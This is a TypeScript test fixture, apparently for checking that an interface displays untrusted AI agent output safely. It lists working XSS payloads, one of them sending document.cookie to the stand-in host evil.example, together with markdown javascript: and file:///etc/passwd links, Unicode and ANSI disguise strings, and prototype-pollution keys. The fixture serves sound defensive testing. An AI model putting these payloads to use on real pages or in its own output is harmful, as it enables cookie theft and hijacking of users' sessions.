/*
 * Malicious agent output. If a page treated it as more than text, it would set `pwned`, send a request to another host,
 * leave the page, or pretend to be something else.
 */

const DO_HARM = "window.pwned=1;fetch('https://evil.example/'+document.cookie)";

/** Markup and scripts. */
const MARKUP = [
  `<script>${DO_HARM}</script>`,
  `</textarea></pre></code></script><script>${DO_HARM}</script>`,
  `<img src="https://evil.example/pixel.png" onerror="${DO_HARM}">`,
  `<svg onload="${DO_HARM}"><use href="https://evil.example/x.svg#a"/><animate onbegin="${DO_HARM}" attributeName=x dur=1s></svg>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data="https://evil.example/x"></object>`,
  `<style>@import "https://evil.example/x.css"; body { display: none }</style><link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0; url=https://evil.example/"><base href="https://evil.example/">`,
  `<form action="https://evil.example/"><input name=password autofocus onfocus="${DO_HARM}"><button>Sign in</button></form>`,
  `<a href="javascript:${DO_HARM}">click me</a><details open ontoggle="${DO_HARM}"><summary>x</summary></details>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src onerror=${DO_HARM}>">`,
  `{{constructor.constructor('${DO_HARM}')()}} \${${DO_HARM}} <%= 1 %>`,
];

/** Markdown that links elsewhere. */
const MARKDOWN = [
  `[a link](javascript:${encodeURIComponent(DO_HARM)})`,
  `[a link](JaVaScRiPt:alert%281%29 "title") [tabs](java&#9;script:alert(1)) [data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)`,
  '![a picture](https://evil.example/pixel.png?cookie=1)',
  '![a picture](x" onerror="window.pwned=1)',
  `[ref]: javascript:window.pwned=1\n\n[ref] <javascript:window.pwned=1> <https://evil.example/auto>`,
  '[`code`](vbscript:x) [file](file:///etc/passwd) [blob](blob:https://evil.example/x)',
  `\`\`\`"><script>window.pwned=1</script>\n<b>bold</b>\n\`\`\``,
];

/** Characters that make one string look like another. */
const DISGUISES = [
  'access granted \u202Eresu ni deggol\u202C \u2066hidden\u2069 zero\u200Bwidth\uFEFF',
  '\u001B[31mred\u001B[0m \u001B]8;;https://evil.example/\u0007link\u001B]8;;\u0007 \u001B[2J\u001B[1;1Hcleared',
  'null\u0000 bell\u0007 back\u0008\u0008\u0008 delete\u007F c1\u0085\u009B31m',
  'line\u2028separator para\u2029graph',
];

/** All of them. */
export const MALICIOUS_STRINGS: readonly string[] = [...MARKUP, ...MARKDOWN, ...DISGUISES];

/** Keys with a special meaning in JavaScript objects. */
export const MALICIOUS_KEYS = {
  ['__proto__']: { pwned: 1 },
  constructor: { prototype: { pwned: 1 } },
  toString: '<img src=x onerror=window.pwned=1>',
};
